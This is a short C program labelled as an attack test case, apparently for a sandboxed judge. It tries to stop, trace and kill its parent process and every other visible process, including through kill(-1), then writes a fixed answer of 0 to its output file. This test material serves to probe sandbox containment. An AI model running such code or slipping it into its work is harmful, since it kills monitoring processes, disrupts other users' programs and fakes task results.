/* Attack (issue 24): end, stop or trace whatever watches this decision (its parent, and every other process
it can see), then answer 0. Prints, for its parent, the errno of SIGSTOP, SIGKILL and PTRACE_ATTACH (0: it
worked), then how many other processes (PID 1 aside: the kernel ignores a signal it does not handle) took
a signal, and "done". */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/ptrace.h>
#include <unistd.h>

static int outcome(long result) { return result == 0 ? 0 : errno; }

int main(void) {
    pid_t parent = getppid(), self = getpid();
    printf("parent %d\n", parent == 1 ? 1 : 0);
    printf("stop %d\n", outcome(kill(parent, SIGSTOP)));
    printf("trace %d\n", outcome(ptrace(PTRACE_ATTACH, parent, NULL, NULL)));
    printf("kill %d\n", outcome(kill(parent, SIGKILL)));
    int others = 0;
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc)) != NULL) {
        if (!isdigit((unsigned char)entry->d_name[0])) continue;
        pid_t pid = (pid_t)atoi(entry->d_name);
        if (pid == self || pid == 1) continue;
        if (kill(pid, SIGSTOP) == 0) others++;
        if (kill(pid, SIGKILL) == 0) others++;
    }
    if (proc) closedir(proc);
    kill(-1, SIGSTOP);
    kill(-1, SIGKILL);
    printf("others %d\ndone\n", others);
    FILE *answer = fopen("outputf.txt", "w");
    if (answer) {
        fputs("0\n", answer);
        fclose(answer);
    }
    return 0;
}
